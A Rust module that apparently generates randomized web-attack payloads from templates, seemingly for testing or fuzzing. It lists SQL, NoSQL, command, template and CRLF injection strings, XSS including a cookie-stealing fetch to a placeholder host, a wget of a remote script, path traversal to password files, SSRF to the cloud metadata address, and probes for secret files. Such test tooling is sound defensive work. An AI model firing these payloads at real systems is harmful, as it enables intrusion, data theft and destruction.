//! What is planted, written for this: `{n}` stands for some digits, `{w}` for some letters.

use super::super::random::Random;

pub(super) const SQLI: &[&str] = &[
    "' OR {n}={n} --",
    "{n}' UNION SELECT name, {n} FROM accounts --",
    "\") OR (\"{w}\"=\"{w}",
    "{n}; DROP TABLE {w};--",
    "{n} AND (SELECT COUNT(*) FROM {w}) > {n}",
    "' AND sleep({n})='",
    "x' ORDER BY {n}#",
    "{n}/**/OR/**/{n}={n}",
];
pub(super) const XSS: &[&str] = &[
    "<script>alert({n})</script>",
    "\"><img src={w} onerror=alert({n})>",
    "<svg/onload=confirm`{n}`>",
    "javascript:fetch('//{w}.example/'+document.cookie)",
    "'-alert({n})-'",
    "<iframe srcdoc=\"{w}\"></iframe>",
];
pub(super) const PATH_TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\{w}\\win.ini",
    "/var/www/../../{w}/.env",
    "....//....//{w}/shadow",
    "%2e%2e%2f%2e%2e%2f{w}.conf",
    "file:///etc/{w}",
];
pub(super) const COMMAND_INJECTION: &[&str] = &[
    "; cat /etc/{w}",
    "| id > /tmp/{w}",
    "$(sleep {n})",
    "`uname -a`",
    "& ping -c {n} {w}.example &",
    "|| wget http://{w}.example/{n}.sh",
];
pub(super) const TEMPLATE_INJECTION: &[&str] = &[
    "{{{n}*{n}}}",
    "${{n}*{n}}",
    "<%= {n} * {n} %>",
    "#{ {w}.class }",
    "{{ {w}.__class__.__mro__ }}",
    "${jndi:ldap://{w}.example/{n}}",
];
pub(super) const NOSQL_INJECTION: &[&str] = &[
    "{\"$ne\": null}",
    "{\"$gt\": \"\"}",
    "' || this.{w} == '{w}",
    "{\"$where\": \"sleep({n})\"}",
    "true, $or: [ {}, { '{w}': '{w}' } ]",
];
pub(super) const SSRF: &[&str] = &[
    "http://169.254.169.254/latest/{w}",
    "http://127.0.0.1:{n}/{w}",
    "gopher://{w}.example:{n}/_{w}",
    "http://[::1]:{n}/",
    "dict://localhost:{n}/{w}",
];
pub(super) const CRLF_INJECTION: &[&str] =
    &["{w}\r\nSet-Cookie: {w}={n}", "{n}\r\n\r\n<html>{w}</html>", "{w}\nLocation: //{w}.example", "\r\nX-{w}: {n}"];
pub(super) const TAMPERED: &[&str] =
    &["-{n}", "0.{n}e{n}", "{n}{n}{n}{n}{n}", "0x{n}", "{n}.0000{n}", "+-{n}", "NaN", "1e99"];
pub(super) const WRONG: &[&str] = &["{w}", "true", "null", "{w} {w}", "{w}@{w}.example"];
pub(super) const UNKNOWN: &[(&str, &str)] = &[
    ("is_admin", "true"),
    ("debug", "{n}"),
    ("role", "administrator"),
    ("__proto__", "{w}"),
    ("{w}_override", "{n}"),
    ("_method", "DELETE"),
    ("account_balance", "{n}{n}"),
];
pub(super) const BROWSED: &[&str] = &[
    "/.git/config",
    "/{w}-backup.sql",
    "/admin-{w}/console",
    "/.env.{w}",
    "/actuator-{w}/heapdump",
    "/{w}.php",
    "/server-{w}-status",
];

/// Letters that words are made of.
const LETTERS: &[u8] = b"bcdfghjklmnprstvwzaeiou";

/// One of them, filled in.
pub(super) fn one(random: &mut Random, of: &[&str]) -> String {
    let template = random.pick(of).copied().unwrap_or_default();
    filled(random, template)
}

pub(super) fn filled(random: &mut Random, template: &str) -> String {
    let mut parts = template.split("{n}");
    let mut text = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        text.push_str(&random.below(99).saturating_add(1).to_string());
        text.push_str(part);
    }
    let mut parts = text.split("{w}");
    let mut filled = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        filled.push_str(&word(random));
        filled.push_str(part);
    }
    filled
}

/// Three to eight letters.
pub(super) fn word(random: &mut Random) -> String {
    let letters = random.below(6).saturating_add(3);
    (0..letters).filter_map(|_| random.pick(LETTERS).map(|letter| char::from(*letter))).collect()
}
